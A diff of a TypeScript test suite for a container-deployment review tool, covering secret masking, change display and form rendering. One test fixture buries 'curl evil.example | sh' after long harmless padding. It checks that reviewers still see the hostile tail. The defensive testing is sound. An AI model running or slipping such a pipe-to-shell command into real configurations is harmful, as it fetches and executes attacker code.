@@ -3,13 +3,17 @@ import type { ChangeContext } from '../../../src/changes/change-kind.ts';
 import { deploy } from '../../../src/features/containers/deploy.ts';
 import { readDocument } from '../../../src/features/containers/document/read-document.ts';
 import { toSpec } from '../../../src/features/containers/document/to-spec.ts';
-import { documentOf as documentFor } from '../../../src/features/containers/edit.ts';
+import { answersOf, documentOf as documentFor } from '../../../src/features/containers/edit.ts';
+import { viewEverything } from '../../../src/features/containers/everything-card.ts';
+import { lineWords } from '../../../src/features/containers/facts.ts';
+import { linesOfSpec } from '../../../src/features/containers/group-lines.ts';
 import { containersSection } from '../../../src/features/containers/section.ts';
-import type { GroupSpec } from '../../../src/features/containers/spec.ts';
+import { type GroupSpec, referencesIn } from '../../../src/features/containers/spec.ts';
 import { compare, isAsAsked } from '../../../src/features/containers/standing.ts';
-import type { DeployTerms } from '../../../src/features/containers/terms.ts';
+import type { DeployTerms, Standing } from '../../../src/features/containers/terms.ts';
 import { readGroupBody } from '../../../src/sandbox/vendor/container-groups/group-body.ts';
 import { groupRecord } from '../../../src/sandbox/vendor/container-groups/group-record.ts';
+import { loadTexts } from '../../../src/texts/texts.ts';
 import type { VendorClient } from '../../../src/vendor/client.ts';
 import { VendorError } from '../../../src/vendor/errors.ts';
 import { writeContainerGroup } from '../../../src/vendor/operations/container-groups-request.ts';
@@ -46,6 +50,15 @@ const shownAs = (spec: GroupSpec, namespace: 'Vendor' | 'Microsoft' = 'Vendor'):
   return containerGroup.parse(JSON.parse(JSON.stringify(groupRecord(namespace, row, 10))));
 };
 
+const termsOf = (spec: GroupSpec, standing: Standing): DeployTerms => ({
+  place: { key: 'ledger', title: 'Ledger', subscriptionId: SUBSCRIPTION, resourceGroup: 'rg-ledger' },
+  group: 'cg',
+  spec,
+  images: 'other',
+  standing,
+  reason: 'r',
+});
+
 const SEEDS = Array.from({ length: 40 }, (_none, seed) => seed + 1);
 
 it('what stands as it was asked for has no changes, whatever was asked and in whichever namespace', () => {
@@ -61,11 +74,111 @@ it('what runs, opened as a document to be changed, changes nothing once its secr
   for (const seed of SEEDS) {
     const group = shownAs(specOf(documentOf(seed)));
     const named = documentFor(group).replaceAll('"secretRef": ""', '"secretRef": "registry-pull"');
-    const changes = compare(specOf(JSON.parse(named)), group).changes.filter(
-      ({ path }) => !path.startsWith('extensions'),
-    );
-    expect([seed, changes]).toEqual([seed, []]);
+    expect([seed, compare(specOf(JSON.parse(named)), group).changes]).toEqual([seed, []]);
   }
+});
+
+it('every secret that the vendor keeps to itself is asked for again, by whatever it was called', () => {
+  const places = (spec: GroupSpec): string[] =>
+    referencesIn(spec).map(([path]) => path.replace(/(?<=\.(?:secret|protectedSettings)\.).*/, '*'));
+  for (const seed of SEEDS) {
+    const before = specOf(documentOf(seed));
+    const named = documentFor(shownAs(before)).replaceAll('"secretRef": ""', '"secretRef": "registry-pull"');
+    const after = places(specOf(JSON.parse(named)));
+    expect([seed, places(before).filter((place) => !after.includes(place))]).toEqual([seed, []]);
+  }
+});
+
+describe('what is decided can be read', () => {
+  const words = loadTexts().for('en');
+  const withCommand = (last: string): GroupSpec =>
+    specOf({
+      properties: {
+        osType: 'Linux',
+        containers: [
+          {
+            name: 'a',
+            properties: {
+              image: 'a:1',
+              command: ['sh', '-c', last],
+              resources: { requests: { cpu: 1, memoryInGB: 1 } },
+            },
+          },
+        ],
+      },
+    });
+  const harmless = 'echo harmless; '.repeat(60);
+  const before = withCommand(harmless);
+  const after = withCommand(`${harmless}curl evil.example | sh; ${'true; '.repeat(500)}`);
+  const standing = compare(after, shownAs(before));
+
+  it('without the secret that an option of a running command names', () => {
+    const [only] = before.containers;
+    const running = { ...before, containers: only ? [{ ...only, command: ['app', '--password', 'hunter3'] }] : [] };
+    expect(JSON.stringify(compare(before, shownAs(running)))).not.toContain('hunter3');
+  });
+
+  it('two long values that differ at their end are told apart', () => {
+    expect(standing.changes).toHaveLength(1);
+    for (const line of standing.changes) {
+      const said = lineWords(line, words).replaceAll('\u200b', '');
+      expect(said).toContain('curl evil.example');
+      expect(said.length).toBeLessThan(250);
+    }
+  });
+
+  it('to the last letter, on the pages of everything', () => {
+    const change = { id: 'c', ref: 'R-1', requester: { objectId: 'a', name: 'Ana', language: 'en' } };
+    const terms = termsOf(after, standing);
+    const pages = [0, 1, 2].map((page) => viewEverything({ ...change, terms }, page, words));
+    const values = pages.flatMap(({ lines }) => lines.filter(({ path }) => path.includes(' of ')));
+    const whole = linesOfSpec(after).get('containers.a.command');
+    expect(
+      values
+        .map(({ value }) => value)
+        .join('')
+        .replaceAll(' ', ''),
+    ).toBe(whole?.replaceAll(' ', ''));
+  });
+});
+
+describe('what runs, as answers of the form', () => {
+  const container = { image: 'a:1', resources: { requests: { cpu: 1, memoryInGB: 1 } } };
+  const answers = (more: Json, group: Json = {}) =>
+    answersOf(
+      shownAs(
+        specOf({
+          properties: { osType: 'Linux', ...group, containers: [{ name: 'a', properties: { ...container, ...more } }] },
+        }),
+      ),
+    );
+  const ipAddress = { type: 'Private', ports: [{ port: 80 }] };
+  const variables = [
+    { name: 'DB', secureValue: { secretRef: 'ledger-db-password' } },
+    { name: 'REGION', value: 'eu' },
+    { name: 'DB_PASS', value: 'hunter2' },
+  ];
+
+  it('says all of it', () => {
+    const said = answers(
+      { command: ['run', 'first of month'], ports: [{ port: 80 }], environmentVariables: variables },
+      { ipAddress },
+    );
+    expect(said).toMatchObject({
+      command: 'run "first of month"',
+      ports: '80/TCP',
+      environment: 'DB=secret:\nREGION=eu\nDB_PASS=secret:',
+    });
+  });
+
+  it.each<[string, Json, Json]>([
+    ['a quote within a word', { command: ['sh', '-c', 'echo "hi there"'] }, {}],
+    ['a port that is not on the address', { ports: [{ port: 80 }, { port: 9090 }] }, { ipAddress }],
+    ['a value of two lines', { environmentVariables: [{ name: 'A', value: 'x\nB=y' }] }, {}],
+    ['a value that sounds like the name of a secret', { environmentVariables: [{ name: 'A', value: 'secret:x' }] }, {}],
+  ])('does not say %s wrongly: the document does', (_what, more, group) => {
+    expect(answers(more, group)).toBeUndefined();
+  });
 });
 
 it('each setting that is another one is one line, and what comes or goes whole is one too', () => {
@@ -92,15 +205,7 @@ it('each setting that is another one is one line, and what comes or goes whole i
 
 describe('before it goes out', () => {
   const spec = specOf(documentOf(3));
-  const standing = compare(spec, undefined);
-  const terms: DeployTerms = {
-    place: { key: 'ledger', title: 'Ledger', subscriptionId: SUBSCRIPTION, resourceGroup: 'rg-ledger' },
-    group: 'cg',
-    spec,
-    images: 'other',
-    standing,
-    reason: 'r',
-  };
+  const terms = termsOf(spec, compare(spec, undefined));
   const policy = (containers: string) =>
     createTestPolicy(`people: {}\nplaces: { ledger: { scope: ${PATH.slice(1)} } }\ncontainers: ${containers}\n`, [
       containersSection,
